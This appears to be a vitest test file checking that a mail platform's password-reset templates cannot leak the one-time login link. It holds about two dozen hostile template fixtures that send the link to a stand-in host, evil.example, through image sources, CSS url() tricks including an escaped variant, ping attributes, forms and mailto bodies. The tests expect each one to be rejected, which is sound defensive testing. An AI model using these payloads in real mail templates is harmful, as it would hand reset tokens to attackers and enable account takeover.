import { describe, expect, it } from 'vitest'
import { render } from '@signalbox/model/template-language/render'
import { linkMails } from '../../setup/template/link-mails.ts'
import { hideLink, linkProblem, linkVariable } from './one-time-link.ts'
import type { MailContent, MailRequest } from './mail-message.ts'

const link = 'https://pay.example/signalbox/login#reset=s3cr3t-t0ken&x=1'
const request: MailRequest = {
  to: 'anna@mail.example',
  template: 'PasswordReset',
  merchantId: 1000,
  locale: 'en',
  view: { link, user: { username: 'anna', displayName: 'Anna' }, expiresMinutes: 30 },
}

/** The mail as a template words it. */
function worded(template: Partial<MailContent>) {
  const hidden = hideLink(request, 'a1b2')
  if (!hidden) throw new Error('There is a link to hide')
  const { view } = hidden.request
  const put = (text: string, escape: 'html' | 'none') => render(text, view, { escape, locale: 'en' }).output
  const {
    subject = 'Hello',
    text = `Here: ${linkVariable}`,
    html = `<p><a href="${linkVariable}">Here</a></p>`,
  } = template
  return hidden.reveal({
    subject: put(subject, 'none'),
    text: put(text, 'none'),
    html: html === null ? null : put(html, 'html'),
  })
}

const evil = 'https://evil.example/?x='
const hostilePages: readonly string[] = [
  `<p><a href="${linkVariable}">Here</a></p><img src="${evil}${linkVariable}">`,
  `<p><a href="${linkVariable}">Here</a></p><img src='${evil}${linkVariable}'>`,
  `<p><a href="${linkVariable}">Here</a></p><img src=${evil}${linkVariable}>`,
  `<p><a href="${linkVariable}">Here</a></p><img src="//evil.example/${linkVariable}">`,
  `<p><a href="${linkVariable}">Here</a></p><img src="https://evil.example/logo.png">`,
  `<p><a href="${evil}${linkVariable}">Here</a></p>`,
  `<p><a href="${linkVariable}.evil.example/">Here</a></p>`,
  `<p><a href="${linkVariable}" ping="${evil}">Here</a></p>`,
  `<p><a href="mailto:me@evil.example?body=${linkVariable}">Here</a> ${linkVariable}</p>`,
  `<p style="background:url(${evil}${linkVariable})"><a href="${linkVariable}">Here</a></p>`,
  `<p style="background:u\\72l(${evil})"><a href="${linkVariable}">Here</a></p>`,
  `<style>a[href*="reset=s"]{background:url(${evil}s)}</style><a href="${linkVariable}">Here</a>`,
  `<table background="${evil}${linkVariable}"></table><a href="${linkVariable}">Here</a>`,
  `<form action="${evil}"><input value="${linkVariable}"></form><a href="${linkVariable}">Here</a>`,
  `<p>${evil}${linkVariable}</p>`,
  `<p>${evil}<b>${linkVariable}</b></p>`,
  `<p>${evil}<span></span>${linkVariable}</p>`,
  `<p>www.evil.example/${linkVariable}</p>`,
  `<p>${linkVariable}@evil.example</p>`,
  '<p>No link at all</p>',
]

describe('a link that lets people in', () => {
  it('leaves in the words of the templates that come with the platform', () => {
    for (const { subject, content, textContent } of linkMails) {
      const mail = worded({ subject: subject ?? '', html: content, text: textContent ?? '' })
      expect(mail).toMatchObject({ text: expect.stringContaining(link) })
      expect(mail).toMatchObject({ html: expect.stringContaining(`href="${link.replace('&', '&amp;')}"`) })
    }
  })

  it.each(hostilePages)('is not put into another address by a page: %s', (html) => {
    expect(worded({ html })).toEqual({ problem: expect.any(String) })
  })

  it.each([
    `${evil}${linkVariable}`,
    `Here: ${linkVariable} or https://evil.example`,
    `${linkVariable}.evil.example`,
    `<${evil}${linkVariable}>`,
    'No link at all',
  ])('is not put into another address by a text: %s', (text) => {
    expect(worded({ text })).toEqual({ problem: expect.any(String) })
  })

  it('is not in a subject', () => {
    expect(worded({ subject: `Go to ${linkVariable}` })).toEqual({ problem: expect.any(String) })
  })

  it('is not known to the template, whatever it does to it', () => {
    const hidden = hideLink(request, 'a1b2')
    expect(JSON.stringify(hidden?.request)).not.toContain('s3cr3t')
  })

  it('may be followed by a full stop, and a mail may have an address to write to', () => {
    const html = `<p>Open <a href="${linkVariable}">this</a>, or ${linkVariable}. <a href="mailto:help@pay.example">Help</a></p>`
    expect(
      linkProblem({ subject: 'Hello', text: `Open ${linkVariable}.`, html }, linkVariable),
    ).toBeUndefined()
  })
})
